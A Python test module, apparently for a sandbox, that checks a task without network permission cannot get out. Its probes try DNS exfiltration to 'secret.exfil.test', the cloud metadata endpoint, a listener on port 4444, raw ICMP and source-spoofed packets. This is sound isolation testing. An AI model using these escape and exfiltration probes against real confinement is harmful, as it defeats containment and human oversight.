"""A task without net:egress: there is no way out to begin with."""

import socket

import kit
import wire
from kit import need, probe


def local_sockets():
    one, two = socket.socketpair()
    one.send(b"x")
    need(two.recv(1) == b"x")
    socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()


def devices():
    """Names of the network devices; netlink, which would tell too, is shut to tasks."""
    return {line.partition(":")[0].strip() for line in kit.read("/proc/net/dev").decode().splitlines()[2:]}


def loopback_is_there():
    need("lo" in devices())


@probe("no-card-tcp", twin=local_sockets)
def tcp():
    need(wire.connect(wire.MIRROR, 80).startswith(wire.GREETING))


@probe("no-card-udp", twin=local_sockets)
def udp():
    need(wire.ask(wire.MIRROR, 80, b"x").startswith(wire.GREETING))


@probe("no-card-metadata", twin=local_sockets)
def metadata():
    need(wire.connect("169.254.169.254", 80).startswith(wire.GREETING))


@probe("no-card-gateway-port", twin=local_sockets)
def gateway_port():
    need(wire.connect(wire.GATEWAY, 16509).startswith(wire.GREETING))


@probe("no-card-dns-udp", twin=local_sockets)
def dns_udp():
    wire.resolve("secret.exfil.test", wire.STRANGE)


@probe("no-card-dns-tcp", twin=local_sockets)
def dns_tcp():
    # Nobody answers questions over TCP there; that the connection stands is the way out.
    need(wire.connect(wire.STRANGE, 53).startswith(wire.GREETING))


@probe("no-card-broadcast", twin=local_sockets)
def broadcast():
    need(wire.ask("255.255.255.255", 9, b"x", broadcast=True).startswith(wire.GREETING))


@probe("no-card-multicast", twin=local_sockets)
def multicast():
    need(wire.ask("224.0.0.1", 5353, b"x", broadcast=True).startswith(wire.GREETING))


@probe("no-card-listen", twin=local_sockets)
def listen():
    # A service of one's own on an address that others could reach.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((wire.GATEWAY, 53))
        address = one.getsockname()[0]
    with socket.create_server((address, 4444)):
        need(not address.startswith("127."))


@probe("no-card-interfaces", twin=loopback_is_there)
def interfaces():
    if devices() <= {"lo"}:
        raise kit.AbsentError("card")


@probe("no-card-raw-icmp", twin=local_sockets)
def raw_icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.settimeout(wire.WAIT)
        body = b"\x08\0" + wire.checksum(b"\x08\0\0\0\0\1\0\1").to_bytes(2, "big") + b"\0\1\0\1"
        one.sendto(body, (wire.MIRROR, 0))
        need(one.recv(1500))


@probe("no-card-raw-headers", twin=local_sockets)
def raw_headers():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(wire.udp("198.19.0.200", wire.MIRROR, 4000, 80, b"x"), (wire.MIRROR, 0))
